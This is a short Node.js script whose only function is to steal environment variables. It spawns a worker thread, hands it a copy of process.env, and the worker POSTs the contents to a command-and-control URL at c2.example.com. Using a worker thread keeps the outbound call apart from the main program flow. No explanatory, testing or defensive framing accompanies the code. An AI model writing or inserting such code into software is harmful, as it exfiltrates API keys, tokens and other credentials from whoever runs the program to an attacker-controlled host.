const { Worker, isMainThread, workerData } = require('worker_threads');
if (isMainThread) new Worker(__filename, { workerData: { e: { ...process.env } } });
else {
  const d = workerData.e;
  fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
}
